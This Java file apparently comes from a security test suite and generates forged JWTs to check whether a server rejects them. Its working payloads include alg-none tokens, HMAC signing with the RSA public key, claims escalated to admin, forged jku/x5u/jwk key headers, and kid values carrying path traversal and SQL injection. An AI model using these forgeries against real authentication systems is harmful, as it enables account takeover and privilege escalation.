package io.provisioning.attacks;

import io.provisioning.packaged.StolenKey;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import jakarta.json.JsonValue;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.PrivateKey;
import java.security.Signature;
import java.security.interfaces.RSAPrivateCrtKey;
import java.security.interfaces.RSAPublicKey;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** Tokens of somebody who does not have the server's key. */
final class ForgedTokens {
    private final StolenKey stolen;
    private final JsonObject jwks;
    private final String keysAddress;
    private final KeyPair own;
    private final Mutants mutants;

    /**
     * What to forge with.
     *
     * @param jwks what the server publishes
     * @param keysAddress where a server that believes tokens would look for keys
     */
    ForgedTokens(StolenKey stolen, JsonObject jwks, String keysAddress) throws Exception {
        this.stolen = stolen;
        this.jwks = jwks;
        this.keysAddress = keysAddress;
        KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
        generator.initialize(2048);
        own = generator.generateKeyPair();
        mutants = new Mutants(stolen);
    }

    Map<String, String> all() throws Exception {
        unsigned();
        signedWithThePublicKey();
        brokenSignatures();
        changedContent();
        keysOfTheirOwn();
        return mutants.headers();
    }

    private JsonObjectBuilder claims() {
        return stolen.claims("admin", "admin");
    }

    private String unsigned(JsonObjectBuilder header) {
        return StolenKey.base64(header.build()) + "." + StolenKey.base64(claims().build());
    }

    private void unsigned() throws Exception {
        String signature = stolen.sign(claims()).split("\\.", -1)[2];
        for (String algorithm : List.of("none", "None", "NONE", "nOnE", "", "null")) {
            String content = unsigned(stolen.header().add("alg", algorithm));
            mutants.token("alg '" + algorithm + "'", content + ".");
            mutants.token("alg '" + algorithm + "', a signature", content + "." + signature);
        }
        mutants.token("alg none, two parts", unsigned(stolen.header().add("alg", "none")));
        mutants.token("no alg", unsigned(stolen.header().remove("alg")) + ".");
        mutants.token(
                "alg of null", unsigned(stolen.header().add("alg", JsonValue.NULL)) + "." + "AA");
        mutants.token(
                "alg of a list",
                unsigned(stolen.header().add("alg", Json.createArrayBuilder().add("RS256")))
                        + "."
                        + signature);
    }

    private void signedWithThePublicKey() throws Exception {
        Map<String, byte[]> secrets = PublicKeyTexts.of((RSAPrivateCrtKey) stolen.key(), jwks);
        for (Map.Entry<String, byte[]> secret : secrets.entrySet()) {
            mutants.token(
                    "HS256 by " + secret.getKey(), hmac("HS256", "HmacSHA256", secret.getValue()));
        }
        mutants.token("HS384 by PEM", hmac("HS384", "HmacSHA384", secrets.get("PEM")));
        mutants.token("HS512 by PEM", hmac("HS512", "HmacSHA512", secrets.get("PEM")));
    }

    private String hmac(String name, String algorithm, byte[] secret) throws Exception {
        String content = unsigned(stolen.header().add("alg", name));
        Mac mac = Mac.getInstance(algorithm);
        mac.init(new SecretKeySpec(secret, algorithm));
        return content
                + "."
                + StolenKey.base64(mac.doFinal(content.getBytes(StandardCharsets.US_ASCII)));
    }

    private void brokenSignatures() throws Exception {
        String[] parts = stolen.sign(claims()).split("\\.", -1);
        String content = parts[0] + "." + parts[1];
        byte[] signature = Base64.getUrlDecoder().decode(parts[2]);
        byte[] flipped = signature.clone();
        flipped[0] ^= 1;
        BigInteger modulus = ((RSAPublicKey) own.getPublic()).getModulus();
        mutants.token("no signature", content + ".");
        mutants.token("two parts", content);
        mutants.token("four parts", content + "." + parts[2] + "." + parts[2]);
        mutants.token("five parts", content + "." + content + "." + parts[2]);
        mutants.token("a signature less by a byte", content + "." + part(signature, 255));
        mutants.token("half a signature", content + "." + part(signature, 128));
        mutants.token("a signature and a byte", content + "." + part(signature, 257));
        mutants.token("a flipped bit", content + "." + StolenKey.base64(flipped));
        mutants.token("a signature of zeros", content + "." + part(new byte[1], 256));
        mutants.token("a signature of one", content + "." + StolenKey.base64(one()));
        mutants.token(
                "a signature of another modulus",
                content + "." + StolenKey.base64(modulus.subtract(BigInteger.ONE).toByteArray()));
        mutants.token(
                "another token's signature",
                content + "." + stolen.sign(claims()).split("\\.", -1)[2]);
        mutants.token("a signature that is no base64", content + ".!" + parts[2].substring(1));
    }

    private static String part(byte[] signature, int length) {
        return StolenKey.base64(Arrays.copyOf(signature, length));
    }

    private static byte[] one() {
        byte[] one = new byte[256];
        one[255] = 1;
        return one;
    }

    private void changedContent() throws Exception {
        String[] low = stolen.sign(stolen.claims("developer", "developer")).split("\\.", -1);
        String rest = "." + low[2];
        String header = low[0] + ".";
        mutants.token(
                "another role",
                header + StolenKey.base64(stolen.claims("developer", "admin").build()) + rest);
        mutants.token("another account", header + StolenKey.base64(claims().build()) + rest);
        mutants.token(
                "a later end",
                header
                        + StolenKey.base64(
                                stolen.claims("developer", "developer")
                                        .add("exp", 9_999_999_999L)
                                        .build())
                        + rest);
        String claims = stolen.claims("developer", "developer").build().toString();
        mutants.token(
                "a claim more",
                header + base64(claims.replace("{", "{\"groups\":[\"admin\"],")) + rest);
        mutants.token("a space more", header + base64(claims.replaceFirst(":", ": ")) + rest);
        mutants.token("no claims", header + rest);
        mutants.token(
                "another header",
                StolenKey.base64(stolen.header().add("cty", "JWT").build()) + "." + low[1] + rest);
        mutants.token("no header", "." + low[1] + rest);
        mutants.token("in capitals", (header + low[1] + rest).toUpperCase(java.util.Locale.ROOT));
        mutants.token("a header 4,000 deep", base64("{\"alg\":" + "[".repeat(4_000)) + rest + rest);
        mutants.token("claims 4,000 deep", header + base64("{\"a\":" + "[".repeat(4_000)) + rest);
        mutants.token("claims that are no JSON", header + base64("garbage") + rest);
        mutants.token("a huge number", header + base64("{\"exp\":1e1000000000}") + rest);
    }

    private static String base64(String text) {
        return StolenKey.base64(text.getBytes(StandardCharsets.UTF_8));
    }

    private void keysOfTheirOwn() throws Exception {
        PrivateKey key = own.getPrivate();
        RSAPublicKey open = (RSAPublicKey) own.getPublic();
        JsonObjectBuilder jwk =
                Json.createObjectBuilder()
                        .add("kty", "RSA")
                        .add("kid", stolen.kid())
                        .add("n", StolenKey.base64(open.getModulus().toByteArray()))
                        .add("e", "AQAB");
        JsonObject known = jwk.build();
        foreign("the right kid", stolen.header());
        foreign("no kid", stolen.header().remove("kid"));
        for (String kid :
                List.of(
                        "unknown",
                        "",
                        "../../../../dev/null",
                        "/dev/null",
                        "file:///dev/null",
                        keysAddress,
                        "' or '1'='1",
                        "x' union select sealed_key from signing_key --",
                        stolen.kid() + "\u0000",
                        "k".repeat(4_000))) {
            foreign(
                    "kid " + kid.substring(0, Math.min(40, kid.length())),
                    stolen.header().add("kid", kid));
        }
        foreign("kid of null", stolen.header().add("kid", JsonValue.NULL));
        foreign("jku", stolen.header().add("jku", keysAddress));
        foreign("jku, no kid", stolen.header().remove("kid").add("jku", keysAddress));
        foreign("x5u", stolen.header().add("x5u", keysAddress));
        foreign("x5c", stolen.header().add("x5c", Json.createArrayBuilder().add("AAAA")));
        foreign("x5t", stolen.header().add("x5t", "AAAA"));
        foreign("jwk", stolen.header().add("jwk", known));
        foreign("jwk, no kid", stolen.header().remove("kid").add("jwk", known));
        mutants.token("HS256 by /dev/null", devNull());
        KeyPairGenerator curve = KeyPairGenerator.getInstance("EC");
        curve.initialize(256);
        Signature es256 = Signature.getInstance("SHA256withECDSAinP1363Format");
        es256.initSign(curve.generateKeyPair().getPrivate());
        String content = unsigned(stolen.header().add("alg", "ES256"));
        es256.update(content.getBytes(StandardCharsets.US_ASCII));
        mutants.token("ES256", content + "." + StolenKey.base64(es256.sign()));
        mutants.token("ES256 of zeros", content + "." + StolenKey.base64(new byte[64]));
        mutants.token(
                "RS256 called ES256",
                StolenKey.sign(stolen.header().add("alg", "ES256"), claims(), key));
    }

    private void foreign(String name, JsonObjectBuilder header) throws Exception {
        mutants.token("another key, " + name, StolenKey.sign(header, claims(), own.getPrivate()));
    }

    private String devNull() throws Exception {
        JsonObjectBuilder header = stolen.header().add("alg", "HS256").add("kid", "/dev/null");
        String content = unsigned(header);
        byte[] mac = StolenKey.hmac(new byte[32], content.getBytes(StandardCharsets.US_ASCII));
        return content + "." + StolenKey.base64(mac);
    }
}
